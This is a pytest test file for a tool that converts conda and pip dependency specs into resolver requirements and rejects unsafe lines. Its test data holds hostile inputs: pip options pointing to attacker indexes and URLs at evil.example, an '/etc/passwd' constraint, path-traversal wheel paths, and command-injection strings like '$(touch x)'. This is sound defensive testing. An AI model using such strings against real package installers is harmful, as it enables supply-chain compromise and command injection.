"""From what a definition says to what a resolver is told; hostile lines never get there."""

from __future__ import annotations

import pytest

from aml_magics.errors import InvalidEnvironmentError, InvalidRequirementError
from aml_magics.services.environment.conda_package import pypi_pin, split_conda
from aml_magics.services.environment.requirement import (
    brought_by_azureml,
    checked_line,
    python_section,
    requirements_of,
)
from aml_magics.services.environment.wheel import keep_wheel


def _of(*conda, pip=(), allow=()):
    return requirements_of({"dependencies": [*conda, {"pip": list(pip)}]}, allow)


@pytest.mark.parametrize(
    ("conda", "line"),
    [
        ("numpy", "numpy"),
        ("NumPy=1.19", "numpy==1.19.*"),
        ("numpy=1.19.*", "numpy==1.19.*"),
        ("numpy==1.19.5", "numpy==1.19.5"),
        ("numpy=1.19.5=py36_0", "numpy==1.19.5"),
        ("numpy==1.19.5=py36_0", "numpy==1.19.5"),
        ("numpy>=1.19,<2", "numpy<2,>=1.19"),
        ("numpy 1.19", "numpy==1.19.*"),
        ("numpy=2.0.0rc1", "numpy==2.0.0rc1"),
        ("numpy=*", "numpy"),
        ("numpy[version='>=1.19']", "numpy>=1.19"),
        ("conda-forge::pandas~=2.0", "pandas~=2.0"),
        ("pytorch=1.13", "torch==1.13.*"),
        ("py-xgboost", "xgboost"),
        ("opencv", "opencv-python-headless"),
        ("scikit-learn", "scikit-learn"),
        ("tensorflow-gpu", "tensorflow"),
    ],
)
def test_conda_packages_have_pypis_names_and_pins(conda, line):
    assert _of(conda).lines == (line,)


@pytest.mark.parametrize(
    ("spec", "asked"),
    [
        ("python=3.6.2", "3.6.2"),
        ("python==3.8", "3.8"),
        ("python>=3.8,<4", ">=3.8,<4"),
        ("python", ""),
        ("python=3.8.13=h12debd9_0", "3.8.13"),
        ("python==3.8.13=h12debd9_0", "3.8.13"),
        ("python 3.8.13 h12debd9_0", "3.8.13"),
    ],
)
def test_python_is_told_apart(spec, asked):
    found = _of(spec, "six")

    assert (found.python, found.lines) == (asked, ("six",))


def test_what_only_conda_has_is_left_out_with_a_note_and_pip_without_one():
    found = _of("cudatoolkit=11.3", "nomkl", "pip=20", "r-base", pip=["pip", "six"])

    assert found.lines == ("six",)
    assert found.notes == (
        "cudatoolkit, nomkl, r-base: left out, since conda alone has it and no container is used.",
    )


def test_aml_magics_stands_in_for_azureml_packages():
    pip = ["azureml-defaults~=1.62.0", "azureml-dataprep[pandas]", "azureml_mlflow", "aml-magics"]

    found = _of("azureml-sdk", pip=pip)

    assert set(found.lines) == {"duckdb", "pandas", "pyarrow", "mlflow-skinny<=3.9.0"}
    assert found.notes == ()
    assert _of(pip=["azure-storage-blob"]).lines == ("azure-storage-blob",)


def test_a_package_of_azureml_is_told_from_another():
    assert brought_by_azureml("AzureML_interpret") == ("interpret-community",)
    assert brought_by_azureml("azureml.widgets") == ()
    for name in ("azureml2", "azure-ai-ml", "aml-magics"):
        assert brought_by_azureml(name) is None


def test_what_reads_tabular_datasets_comes_with_azureml_defaults():
    assert _of(pip=["azureml-defaults"]).lines == ("duckdb", "pandas", "pyarrow")
    assert _of(pip=["azureml-core"]).lines == ()


def test_markers_extras_and_comments_of_pip_lines_are_read():
    pip = ["dask[array]>=2 ; python_version >= '3.8'", "six==1.16.0 # why", "sklearn"]

    assert _of(pip=pip).lines == (
        'dask[array]>=2; python_version >= "3.8"', "six==1.16.0", "scikit-learn",
    )  # fmt: skip


def test_hashes_of_lines_are_dropped_with_a_note():
    found = _of(pip=["six==1.16.0 --hash=sha256:00 --hash=sha256:11"])

    assert found.lines == ("six==1.16.0",)
    assert found.notes == ("Hashes of the requirements were not used; the lock has its own.",)


HOSTILE = {
    "index": [
        "--index-url https://evil.example/simple",
        "--index-url=https://evil.example/simple",
        "-i https://evil.example/simple",
        "--extra-index-url https://evil.example/simple",
        "--find-links /tmp/x",
        "-f http://evil.example",
        "--trusted-host evil.example",
        "--pre",
    ],
    "path": [
        "-e .",
        "-e git+https://evil.example/x",
        "--editable=.",
        "-r other.txt",
        "-c /etc/passwd",
        "six @ file:///tmp/six.whl",
        "six@file:///tmp/six.whl",
        "file:///tmp/six.whl",
        "FILE:///tmp/six.whl",
        "./six",
        "/tmp/six.tar.gz",
        "six-1.0-py3-none-any.whl",
        "~/six",
        "a/b",
        "C:\\six.whl",
        "six @ /tmp/x",
        "six @ file:/tmp/x",
        "file:x",
        "six @ six",
        "six @ a/../../../../six",
        "six @ ${HOME}/six",
        "six[x] @ six ; python_version > '3'",
    ],
    "url": [
        "six @ https://evil.example/six.whl",
        "six@git+https://evil.example/six",
        "https://evil.example/six.whl",
        "git+ssh://git@evil.example/six",
        "six @ https:evil.example",
        "https:evil.example",
    ],
}


@pytest.mark.parametrize(
    ("kind", "line"), [(k, one) for k, lines in HOSTILE.items() for one in lines]
)
def test_a_line_that_is_more_than_a_name_is_refused_unless_allowed(kind, line, monkeypatch):
    with pytest.raises(InvalidRequirementError, match=f"not done unasked.*= '{kind}' first"):
        _of(pip=[line])
    with pytest.raises(InvalidRequirementError, match=r"not done unasked"):
        _of(pip=[line], allow={"index", "path", "url"} - {kind})

    assert _of(pip=[line], allow=[kind]).lines or _of(pip=[line], allow=[kind]).options
    monkeypatch.setenv("AML_MAGICS_ALLOW_REQUIREMENTS", f"{kind}")
    _of(pip=[line])


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("six; touch /x", "A requirement is a name with versions|installs from a file"),
        ("six;import os", "A requirement is a name with versions"),
        ("six && touch x", "A requirement is a name with versions"),
        ("$(touch x)", "A requirement is a name with versions"),
        ("six\n--index-url https://evil.example", "one line of printable text"),
        ("six\r-e .", "one line of printable text"),
        ("six\0", "one line of printable text"),
        (
            "six --index-url https://evil.example",
            "installs from an address|A requirement is a name",
        ),
        ("six --global-option=x", "A requirement is a name with versions"),
        ("--global-option x", "is no option that a requirement may have"),
        ("--python /x", "is no option that a requirement may have"),
        ("-", "is no option that a requirement may have"),
        ("", "A requirement is a name with versions"),
        ("--index-url https://a.example --extra-index-url https://b.example", "is no option"),
        ("--index-url https://a.example\n-e .", "one line of printable text"),
        ("--index-url", "is no option"),
        ("--index-url --python=/tmp/x", "is no option"),
        ("--no-index --python=/tmp/x", "is no option"),
        ("--pre=--python=/tmp/x", "is no option"),
    ],
)
@pytest.mark.parametrize("allow", [(), ("index",)])
def test_a_line_with_more_in_it_is_refused_in_any_case(line, message, allow):
    with pytest.raises(InvalidRequirementError, match=message) as caught:
        _of(pip=[line], allow=allow)
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize(
    "spec",
    [
        "numpy; x",
        "--index-url=x",
        "numpy\n-e .",
        "a b c",
        "-e .",
        "https://a/x",
        "numpy @ file:///x",
        "openssl=*[url='https://evil.example/x.conda']",
        "openssl=1[md5=x]",
        "",
    ],
)
def test_a_conda_dependency_with_more_in_it_is_refused(spec):
    with pytest.raises(InvalidRequirementError, match=r"A conda dependency is a name|The pin"):
        _of(spec)


@pytest.mark.parametrize("pin", [">=1|<0.5", "=1.*.2", "==", ">=1 --pre"])
def test_a_pin_of_condas_without_an_equal_is_refused(pin):
    with pytest.raises(InvalidRequirementError, match=r"has no equal on PyPI|A conda dependency"):
        pypi_pin(*split_conda(f"numpy{pin}"))


@pytest.mark.parametrize(
    "line",
    [
        "--index-url https://user:hunter22@a.example/simple",
        "--proxy https://user:hunter22@a.example",
        "six --password hunter22",
    ],
)
def test_a_password_in_a_refused_line_is_not_shown(line):
    with pytest.raises(InvalidRequirementError) as caught:
        _of(pip=[line])
    assert "hunter22" not in str(caught.value)


def test_allowed_options_are_those_of_uv():
    pip = ["-i https://a.example", "--trusted-host a.example", "--pre", "--no-index", "-f /w"]

    assert _of(pip=pip, allow=["index"]).options == (
        "--index-url", "https://a.example", "--allow-insecure-host", "a.example",
        "--prerelease", "allow", "--no-index", "--find-links", "/w",
    )  # fmt: skip


def test_only_known_kinds_can_be_allowed(monkeypatch):
    monkeypatch.setenv("AML_MAGICS_ALLOW_REQUIREMENTS", "index, everything")

    with pytest.raises(InvalidRequirementError, match=r"allows index, path, url, not 'everything'"):
        _of(pip=["six"])


def test_a_wheel_of_ones_own_is_allowed_as_long_as_it_lies_where_it_was_kept(tmp_path):
    wheel = tmp_path / "mine-1.0-py3-none-any.whl"
    wheel.write_bytes(b"x")
    address = keep_wheel(wheel)

    assert _of(pip=[address]).lines == (f"mine @ {address}",)
    assert checked_line(f"mine @ {address}") == f"mine @ {address}"
    with pytest.raises(InvalidRequirementError, match=r"installs from a file"):
        _of(pip=[address.replace("/mine-", "/../../../mine-")])


def test_the_python_section_is_a_dict():
    assert python_section({"python": None}) == {}
    with pytest.raises(InvalidEnvironmentError, match=r"`python` of an environment is a dict"):
        python_section({"python": [1]})


@pytest.mark.parametrize(
    "line", ["a" * 300_000, "1a" * 150_000, "a." * 150_000, 'a; os_name == "' + "x" * 300_000]
)
def test_a_line_of_any_length_keeps_nobody_waiting(line):
    with pytest.raises(InvalidRequirementError) as told:
        checked_line(f"{line} no requirement")
    assert len(str(told.value)) < 400
